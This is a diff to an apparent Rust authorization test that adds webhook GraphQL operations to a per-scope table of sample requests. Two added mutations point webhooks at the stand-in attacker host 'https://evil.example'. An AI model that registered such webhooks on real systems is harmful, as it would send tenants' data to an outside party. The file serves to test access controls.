@@ -84,6 +84,15 @@ const OPERATIONS: &[(&str, bool, Scope, &str)] = &[
     ("unassignEdge", true, Scope::Tenant, "mutation { unassignEdge(edgeId: \"edge-1\") { changed } }"),
     ("assignDashboard", true, Scope::Customer, "mutation($id: ID!) { assignDashboard(customerId: $id, dashboardId: \"dash-1\") { changed } }"),
     ("unassignDashboard", true, Scope::Customer, "mutation($id: ID!) { unassignDashboard(customerId: $id, dashboardId: \"victim-dash\") { changed } }"),
+    ("webhookEndpoints", false, Scope::Tenant, "{ webhookEndpoints { id url } }"),
+    ("webhookEndpoint", false, Scope::Tenant, "query($id: ID!) { webhookEndpoint(id: $id) { id url } }"),
+    ("registerWebhookEndpoint", true, Scope::Tenant, "mutation { registerWebhookEndpoint(input: { url: \"https://evil.example/hook\" }) { secret } }"),
+    ("updateWebhookEndpoint", true, Scope::Tenant, "mutation($id: ID!) { updateWebhookEndpoint(id: $id, input: { url: \"https://evil.example/x\" }) { id } }"),
+    ("disableWebhookEndpoint", true, Scope::Tenant, "mutation($id: ID!) { disableWebhookEndpoint(id: $id) { id } }"),
+    ("enableWebhookEndpoint", true, Scope::Tenant, "mutation($id: ID!) { enableWebhookEndpoint(id: $id) { id } }"),
+    ("deleteWebhookEndpoint", true, Scope::Tenant, "mutation($id: ID!) { deleteWebhookEndpoint(id: $id) }"),
+    ("rotateWebhookSecret", true, Scope::Tenant, "mutation($id: ID!) { rotateWebhookSecret(id: $id) { secret } }"),
+    ("redeliverWebhooks", true, Scope::Tenant, "mutation($id: ID!) { redeliverWebhooks(endpointId: $id) { id } }"),
     // Sent as a multipart upload by `call`.
     ("importCustomers", true, Scope::Tenant, "Name\nimported-intruder\n"),
 ];
